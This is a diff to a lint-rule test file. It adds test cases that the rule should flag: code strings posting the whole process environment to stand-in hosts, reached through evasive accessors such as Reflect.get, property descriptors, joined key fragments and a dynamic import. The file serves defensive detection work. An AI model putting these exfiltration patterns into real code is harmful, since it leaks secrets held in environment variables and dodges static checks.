@@ -46,6 +46,22 @@ ruleTester(rule, {
   ],
   invalid: [
     {
+      name: 'the environment reached through Reflect.get, descriptors, folded keys and import("process")',
+      code: [
+        'fetch("https://a.example", { method: "POST", body: JSON.stringify(Reflect.get(process, "env")) });',
+        'fetch("https://b.example", { method: "POST", body: JSON.stringify(Object.getOwnPropertyDescriptor(process, "env").value) });',
+        'fetch("https://c.example", { method: "POST", body: JSON.stringify(process[["e", "n", "v"].join("")]) });',
+        'import("process").then((p) => fetch("https://f.example", { method: "POST", body: JSON.stringify(p.env) }));',
+      ].join('\n'),
+      filename: 'x.mjs',
+      errors: [
+        { messageId: 'flow', line: 1, column: 1 },
+        { messageId: 'flow', line: 2, column: 1 },
+        { messageId: 'flow', line: 3, column: 1 },
+        { messageId: 'flow', line: 4, column: 31 },
+      ],
+    },
+    {
       name: 'a Promise executor resolving the environment',
       code: 'new Promise((res) => res(process.env)).then((e) => fetch("https://x.example", { method: "POST", body: JSON.stringify(e) }));',
       errors: [{ messageId: 'flow', line: 1, column: 52 }],
